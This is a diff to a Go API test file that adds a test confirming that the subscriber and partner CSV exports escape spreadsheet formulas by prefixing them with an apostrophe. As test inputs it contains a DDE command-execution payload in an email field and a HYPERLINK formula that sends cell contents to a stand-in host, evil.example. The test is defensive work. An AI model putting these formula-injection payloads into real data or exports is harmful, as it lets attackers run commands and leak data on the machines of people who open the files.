@@ -1,6 +1,9 @@
 package api_test
 
 import (
+	"bytes"
+	"encoding/csv"
+	"fmt"
 	"strconv"
 	"strings"
 	"testing"
@@ -49,6 +52,40 @@ func TestPasswordOver72Bytes422(t *testing.T) {
 		}
 		if r := ts.do(req{method: "POST", path: "/api/v1/login", body: loginBody("ana@example.rs", ok)}); r.Status != 200 {
 			t.Errorf("login with 72 bytes: %d %s", r.Status, r.Raw)
+		}
+	})
+}
+
+// TestCSVFormulaEscaped: a cell a spreadsheet would run as a formula comes out of the CSV files
+// people open (the subscribers' export, a partner's CSV feed) with a leading apostrophe.
+func TestCSVFormulaEscaped(t *testing.T) {
+	t.Parallel()
+	apptest.Run(t, func(t *testing.T, a *app.App) {
+		ts := newTestServer(t, a)
+		evil := "=cmd|calc!A0@example.com"
+		if r := ts.do(req{method: "POST", path: "/api/v1/newsletter/subscribe", body: map[string]any{"email": evil}}); r.Status != 200 {
+			t.Fatalf("subscribe: %d %s", r.Status, r.Raw)
+		}
+		r := ts.do(req{method: "GET", path: "/api/v1/admin/newsletter/subscribers/export?format=csv", token: ts.admin})
+		recs, err := csv.NewReader(bytes.NewReader(r.Raw)).ReadAll()
+		if r.Status != 200 || err != nil || len(recs) != 2 || recs[1][0] != "'"+strings.ToLower(evil) {
+			t.Errorf("subscribers' CSV: %d %v %q, want the address escaped", r.Status, err, recs)
+		}
+
+		laptops, _ := partnerCatalogue(t, a)
+		if err := a.DB.Exec(`UPDATE products SET name = ? WHERE sku = 'LAP-1'`, `=HYPERLINK("http://evil.example/?"&A1,"Klik")`).Error; err != nil {
+			t.Fatal(err)
+		}
+		body, ct := multipartForm(t, [][2]string{{"name", "Partner d.o.o."}, {"categories[0][id]", fmt.Sprint(laptops)}, {"categories[0][percentage]", "10"}})
+		r = ts.do(req{method: "POST", path: "/api/v1/api-clients", token: ts.admin, raw: body, contentType: ct})
+		if r.Status != 201 {
+			t.Fatalf("api client: %d %s", r.Status, r.Raw)
+		}
+		feed := strings.TrimSuffix(feedPath(t, data(r)["api_url"].(string)), ".json") + ".csv"
+		r = ts.do(req{method: "GET", path: feed})
+		recs, err = csv.NewReader(bytes.NewReader(r.Raw)).ReadAll()
+		if r.Status != 200 || err != nil || len(recs) != 2 || recs[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"Klik")` || recs[1][6] != "1320.00" {
+			t.Errorf("partner CSV feed: %d %v %q, want the name escaped and the price as it was", r.Status, err, recs)
 		}
 	})
 }
